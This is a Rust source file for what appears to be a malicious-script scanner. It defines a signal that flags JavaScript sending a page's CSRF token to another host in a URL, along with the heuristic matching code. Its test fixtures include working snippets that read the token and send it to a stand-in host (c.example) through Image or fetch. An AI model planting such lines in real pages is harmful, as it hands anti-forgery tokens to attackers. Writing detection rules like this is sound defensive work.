//! `form-token-in-address`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "form-token-in-address",
    description: "The script sends the anti-forgery code of this page's forms to another host in a URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::TokenSelector])],
    within: 0,
    only_if: Some(carries),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var t=document.querySelector('input[name=csrf_token]').value;var i=new Image();i.src='http://c.example/t?'+t",
            "fetch('https://c.example/?x='+encodeURIComponent(document.querySelector('meta[name=\"csrf-token\"]').getAttribute('content')))",
            "const f=document.querySelector('input[name=\"csrf_token\"]');const v=f.value;new Image().src=`https://c.example/t/${v}?h=${location.host}`",
        ],
        without: &[
            "const t=document.querySelector('meta[name=\"csrf-token\"]').content;fetch('/api/hit?t='+t)",
            "const t=document.querySelector('meta[name=\"csrf-token\"]').content;fetch('https://api.example/save?t='+t,{method:'POST'})",
            "const t=document.querySelector('meta[name=\"csrf-token\"]').content;fetch('https://api.example/save',{headers:{'X-CSRF-Token':t}});new Image().src='https://c.example/p?'+page",
        ],
    },
};

fn carries(evidence: &Evidence<'_>, held: Held) -> bool {
    let at = held.last as usize;
    let near = Near::new(evidence, held, 70);
    let written = (at.saturating_sub(10)..at).any(|to| is_asked(near, to));
    let set = (at.saturating_sub(10)..at).rev().find(|at| near.is(*at, b'='));
    let name = set.map(|set| set.wrapping_sub(1)).filter(|at| near.kind(*at) == Some(Kind::Name));
    let Some(name) = name else { return written };
    // `v = field.value`
    let again = near.among(at..at + 40).places().find(|value| {
        near.word(*value) == near.word(name)
            && near.is(value.wrapping_sub(1), b'=')
            && matches!(near.word(value + 1), "value" | "content" | "getAttribute")
    });
    let names = [near.word(name), again.map_or("", |value| near.before(value, 2))];
    (at..at + 60).filter(|to| is_asked(near, *to)).any(|to| {
        (to + 1..to + 8).any(|at| {
            near.kind(at) == Some(Kind::Name) && !near.word(at).is_empty() && names.contains(&near.word(at))
        })
    })
}

/// Whether an item is an absolute address that is requested or shown, and nothing is posted to it.
fn is_asked(near: Near<'_>, at: usize) -> bool {
    let abroad = near.text_at(at).is_some_and(|text| {
        (text.contains('?') || text.ends_with('/'))
            && ["https://", "http://", "//"].iter().any(|start| text.starts_with(start))
    });
    let by = near.among(at.saturating_sub(4)..at);
    abroad
        && (near.is(at + 1, b'+') || near.kind(at) == Some(Kind::Template))
        && by.has_word(&["src", "fetch", "Image", "location", "href", "sendBeacon", "get"])
        && !near.among(at..at + 16).has(&["POST", "post", "headers", "PUT"])
}
